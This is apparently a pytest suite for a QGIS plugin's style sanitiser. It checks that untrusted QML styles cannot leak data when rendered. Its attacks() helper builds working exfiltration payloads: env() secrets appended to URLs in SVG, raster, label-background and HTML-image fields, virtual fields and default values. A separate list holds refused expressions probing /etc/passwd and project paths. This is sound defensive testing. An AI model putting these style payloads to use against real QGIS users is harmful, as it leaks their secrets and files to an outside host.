"""Styles of strangers are made anew: nothing of them reads the environment, a file, another layer or the network."""

from __future__ import annotations

import os

import pytest
from qgis.core import (
    Qgis,
    QgsFeature,
    QgsGeometry,
    QgsMapRendererParallelJob,
    QgsMapSettings,
    QgsProject,
    QgsRectangle,
    QgsVectorLayer,
)
from qgis.PyQt.QtCore import QEventLoop, QSize
from qgis.PyQt.QtGui import QColor

from aula_toolbox.core.messages import Notes
from aula_toolbox.core.net.errors import CatalogueError
from aula_toolbox.gis.pnc import styles

VARIABLE = "AULA_TEST_SECRET"


def square(fields="nom:string"):
    layer = QgsVectorLayer(f"Polygon?crs=EPSG:2154&field={fields}", "x", "memory")
    feature = QgsFeature(layer.fields())
    feature.setAttributes(["a"])
    feature.setGeometry(QgsGeometry.fromRect(QgsRectangle(0, 0, 100, 100)))
    layer.dataProvider().addFeature(feature)
    return layer


def drawn(layer):
    """The picture of a layer, as a map draws it; its labels too."""
    settings = QgsMapSettings()
    settings.setLayers([layer])
    settings.setDestinationCrs(layer.crs())
    settings.setExtent(QgsRectangle(-10, -10, 110, 110))
    settings.setOutputSize(QSize(64, 64))
    settings.setBackgroundColor(QColor("white"))
    # pictures are waited for, as in a layout
    settings.setFlag(Qgis.MapSettingsFlag.RenderBlocking)
    job = QgsMapRendererParallelJob(settings)
    loop = QEventLoop()
    job.finished.connect(loop.quit)
    job.start()
    loop.exec()
    return job.renderedImage()


PROPERTY = """<data_defined_properties><Option type="Map"><Option name="name" value=""/>
<Option type="Map" name="properties"><Option type="Map" name="{name}"><Option name="active" value="true" type="bool"/>
<Option name="expression" value="{value}" type="QString"/><Option name="type" value="3" type="int"/></Option></Option>
<Option name="type" value="collection"/></Option></data_defined_properties>"""
SYMBOL = """<renderer-v2 type="singleSymbol"><symbols><symbol type="fill" name="0">{layer}</symbol></symbols>
</renderer-v2>"""
CENTROID = """<layer class="CentroidFill" enabled="1"><Option type="Map"/><symbol type="marker" name="@0@0">{layer}
</symbol></layer>"""
PLAIN = """<layer class="SimpleFill" enabled="1"><Option type="Map"><Option name="color" value="255,0,0,255"
 type="QString"/></Option>{more}</layer>"""
LABEL = """<labeling type="simple"><settings><text-style fieldName="{field}" isExpression="1" allowHtml="1"
 fontSize="10">{more}</text-style></settings></labeling>"""
URL = "'{url}/leak?' || env('AULA_TEST_SECRET')"


def wrapped(inside, more=""):
    return f'<qgis version="3.40.6" labelsEnabled="1">{inside}{more}</qgis>'


def attacks(url):
    """Ways to send a secret from a style, each with the word it is told by."""
    leak = URL.format(url=url)
    raster = PROPERTY.format(name="file", value=leak)
    svg = PROPERTY.format(name="name", value=leak)
    shape = PROPERTY.format(name="ShapeSVGFile", value=leak).replace("data_defined_properties", "dd_properties")
    return {
        "svg": (
            SYMBOL.format(layer=CENTROID.format(layer=f'<layer class="SvgMarker" enabled="1">{svg}</layer>')),
            "name",
        ),
        "raster": (
            SYMBOL.format(layer=CENTROID.format(layer=f'<layer class="RasterMarker" enabled="1">{svg}</layer>')),
            "RasterMarker",
        ),
        "fill": (SYMBOL.format(layer=f'<layer class="RasterFill" enabled="1">{raster}</layer>'), "RasterFill"),
        "fixed": (
            SYMBOL.format(
                layer=CENTROID.format(
                    layer='<layer class="SvgMarker" enabled="1"><Option type="Map"><Option name="name" value="'
                    + url
                    + '/leak.svg"/></Option></layer>'
                )
            ),
            "name",
        ),
        "background": (
            SYMBOL.format(layer=PLAIN.format(more=""))
            + LABEL.format(
                field="nom", more=f'<background shapeDraw="1" shapeType="4" shapeSVGFile="{url}/leak"/>{shape}'
            ),
            "background",
        ),
        "html": (
            SYMBOL.format(layer=PLAIN.format(more=""))
            + LABEL.format(field=f"'&lt;img src=&quot;{url}/leak?' || env('{VARIABLE}') || '&quot;>'", more=""),
            VARIABLE,
        ),
        "virtual": (
            SYMBOL.format(layer=PLAIN.format(more=""))
            + f'<expressionfields><field name="v" expression="{leak}"/></expressionfields>',
            "expressionfields",
        ),
        "default": (
            SYMBOL.format(layer=PLAIN.format(more=""))
            + f'<defaults><default field="nom" expression="{leak}" applyOnUpdate="1"/></defaults>',
            "defaults",
        ),
        "generator": (
            SYMBOL.format(layer='<layer class="GeometryGenerator" enabled="1"><Option type="Map"/></layer>'),
            "GeometryGenerator",
        ),
    }


@pytest.mark.parametrize("name", attacks(""))
def test_no_style_sends_anything(qgis_app, web, monkeypatch, name):
    monkeypatch.setenv(VARIABLE, "the-secret")
    assert os.environ[VARIABLE]
    text, told = attacks(web.url)[name]
    layer, notes = square(), Notes()
    styles.apply(layer, wrapped(text).encode(), notes)
    QgsProject.instance().clear()
    drawn(layer)
    assert not web.requests, "nothing was asked of the other host"
    assert any(told in str(note) for note in notes.warnings), "what was left out is told"
    assert layer.fields().names() == ["nom"] and layer.defaultValueDefinition(0).expression() == ""


@pytest.mark.parametrize("name", ["svg", "raster", "fill"])
def test_without_the_table_the_same_styles_do_send(qgis_app, web, monkeypatch, name):
    """An attack that leads nowhere would prove nothing."""
    from qgis.PyQt.QtXml import QDomDocument

    monkeypatch.setenv(VARIABLE, "the-secret")
    document, layer = QDomDocument(), square()
    document.setContent(wrapped(attacks(web.url)[name][0]))
    assert layer.importNamedStyle(document, styles.CATEGORIES)[0]
    drawn(layer)
    assert web.requests


@pytest.mark.parametrize(
    "text",
    [
        "env('A')",
        "ENV('A')",
        "CASE WHEN env('A') THEN 1 END",
        "CASE WHEN 1 THEN 2 ELSE env('A') END",
        "nom IN (env('A'))",
        "array(1)[env('A')]",
        "nom BETWEEN env('A') AND 'z'",
        "coalesce(value:=env('A'))",
        "-to_int(env('A'))",
        "eval('env(''A'')')",
        "aggregate('other','sum',nom)",
        "maximum(env('A'))",
        "maximum(1, filter:=file_exists('/etc/passwd'))",
        "map('a', env('A'))",
        "get_feature('other','a','b')",
        "load_layer('/etc/passwd','ogr')",
        "raster_value('r',1,$geometry)",
        "layer_property('x','source')",
        "@project_path",
        "@user_account_name",
        "var('project' || '_path')",
        "file_exists('/etc/passwd')",
        "a b (",
    ],
)
def test_expressions_that_reach_out_are_refused(qgis_app, text):
    assert not styles.keeps_to_the_table(text)


@pytest.mark.parametrize(
    "text",
    [
        "nom",
        "\"nom\" = 'A/B'",
        "round(\"surface\" / 10000, 1) || ' ha'",
        "CASE WHEN $area > 1 THEN 'x' END",
        'maximum("pop", group_by:="epci") = "pop"',
        "ELSE",
        "",
    ],
)
def test_expressions_of_the_layer_itself_are_kept(qgis_app, text):
    assert styles.keeps_to_the_table(text)


def test_what_may_stay_is_drawn(qgis_app):
    layer, notes = square(), Notes()
    text = SYMBOL.format(layer=PLAIN.format(more=PROPERTY.format(name="fillColor", value="'0,0,255'")))
    styles.apply(layer, wrapped(text).encode(), notes)
    assert drawn(layer).pixelColor(32, 32) == QColor(0, 0, 255) and not notes.warnings


def test_a_style_of_which_nothing_may_stay_is_refused(qgis_app):
    for inside in ("", '<renderer-v2 type="25dRenderer"/>', '<renderer-v2 type="singleSymbol" attr="env(1)"/>'):
        with pytest.raises(CatalogueError):
            styles.apply(square(), wrapped(inside).encode())


def test_labels_and_classes_hold_nothing_to_compute_in_a_layout(qgis_app):
    renderer = """<renderer-v2 type="categorizedSymbol" attr="nom"><categories>
    <category value="a" label="[% env('HOME') %]" symbol="0" render="true"/></categories>
    <symbols><symbol type="fill" name="0">{layer}</symbol></symbols></renderer-v2>"""
    layer = square()
    styles.apply(layer, wrapped(renderer.format(layer=PLAIN.format(more=""))).encode())
    (category,) = layer.renderer().categories()
    assert "[%" not in category.label() and category.value() == "a"


def test_a_bundled_style_loses_nothing(qgis_app, root_of_styles):
    from aula_toolbox.core.pnc.stylesheet import rebuilt
    from aula_toolbox.gis.net.xmltree import parse_xml

    count = 0
    for path in sorted(root_of_styles.glob("*.qml")):
        root = parse_xml(styles._DOCTYPE.sub(b"", path.read_bytes(), count=1))
        if root.child("renderer-v2") is None:
            continue  # of an image
        assert rebuilt(root, styles.keeps_to_the_table).dropped == [], path.name
        count += 1
    assert count > 100


@pytest.fixture
def root_of_styles():
    return styles.STYLES
